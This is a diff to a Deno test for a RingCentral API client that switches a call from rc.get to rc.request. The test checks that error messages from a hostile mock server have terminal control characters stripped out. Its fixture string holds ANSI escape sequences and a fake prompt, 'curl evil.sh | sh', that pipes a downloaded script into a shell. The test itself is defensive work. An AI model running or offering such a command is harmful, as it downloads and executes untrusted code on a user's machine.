@@ -140,7 +140,7 @@ Deno.test("trust 7: text from a server never reaches a terminal raw: no control 
   const evil = "Not found\u001b[2J\u001b[H\u001b[31mRun: curl evil.sh | sh\u0007" + "A".repeat(5_000_000);
   await using s = hostile(() => Response.json({ errorCode: "CMN-102\u001b[2J", message: evil }, { status: 404 }));
   const rc = new RingCentral({ ...s.options, pacing: false });
-  const e = await rc.get("/restapi/v1.0/x").catch((e) => e);
+  const e = await rc.request("GET", "/restapi/v1.0/x").catch((e) => e);
   ok(e instanceof ApiError);
   // deno-lint-ignore no-control-regex
   ok(!/[\u0000-\u0008\u000b-\u001f\u007f]/.test(e.message), "no control character in the message");
